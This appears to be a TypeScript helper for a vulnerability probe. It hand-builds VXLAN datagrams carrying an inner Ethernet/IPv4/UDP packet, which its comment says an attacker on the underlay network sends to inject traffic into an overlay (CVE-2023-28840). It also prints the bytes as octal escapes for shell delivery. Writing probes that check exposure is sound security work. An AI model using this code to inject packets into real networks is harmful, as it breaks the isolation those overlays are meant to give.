// A VXLAN datagram built by hand: the 8-byte VXLAN header, then an Ethernet frame
// carrying IPv4 and UDP. What an attacker on the underlay would send to inject a
// packet into an overlay (CVE-2023-28840); UDP payloads for the probe's socat.

export interface InjectedDatagram {
  /** The overlay's VXLAN network identifier. */
  vni: number;
  dstMac: string;
  srcMac: string;
  srcIp: string;
  dstIp: string;
  dstPort: number;
  payload: string;
}

const mac = (text: string) => {
  const bytes = text.split(":").map((h) => parseInt(h, 16));
  if (bytes.length !== 6 || bytes.some((b) => !Number.isInteger(b) || b < 0 || b > 255))
    throw new Error(`"${text}" is not a MAC address`);
  return bytes;
};

const ipv4 = (text: string) => {
  const bytes = text.split(".").map(Number);
  if (bytes.length !== 4 || bytes.some((b) => !Number.isInteger(b) || b < 0 || b > 255))
    throw new Error(`"${text}" is not an IPv4 address`);
  return bytes;
};

/** The Internet checksum (RFC 1071) of a header. */
export function internetChecksum(bytes: number[]): number {
  let sum = 0;
  for (let i = 0; i < bytes.length; i += 2) sum += (bytes[i] << 8) + (bytes[i + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

const u16 = (n: number) => [(n >> 8) & 0xff, n & 0xff];

/** The VXLAN payload (header + inner frame) to send to a node's data-path UDP port. */
export function vxlanDatagram(d: InjectedDatagram): Buffer {
  if (!Number.isInteger(d.vni) || d.vni < 0 || d.vni > 0xffffff) throw new Error(`${d.vni} is not a VXLAN id`);
  const payload = [...Buffer.from(d.payload)];
  const udp = [...u16(40000), ...u16(d.dstPort), ...u16(8 + payload.length), 0, 0, ...payload];
  const ipHeader = [0x45, 0, ...u16(20 + udp.length), 0, 1, 0x40, 0, 64, 17, 0, 0, ...ipv4(d.srcIp), ...ipv4(d.dstIp)];
  const checksum = internetChecksum(ipHeader);
  ipHeader[10] = checksum >> 8;
  ipHeader[11] = checksum & 0xff;
  const ethernet = [...mac(d.dstMac), ...mac(d.srcMac), 0x08, 0x00];
  // Flags: the I bit (a valid VNI follows); the VNI sits in bytes 4-6.
  const vxlan = [0x08, 0, 0, 0, (d.vni >> 16) & 0xff, (d.vni >> 8) & 0xff, d.vni & 0xff, 0];
  return Buffer.from([...vxlan, ...ethernet, ...ipHeader, ...udp]);
}

/** Bytes as a printf format of octal escapes, for a shell without other ways to write binary. */
export function printfOctal(bytes: Buffer): string {
  return [...bytes].map((b) => `\\${b.toString(8).padStart(3, "0")}`).join("");
}
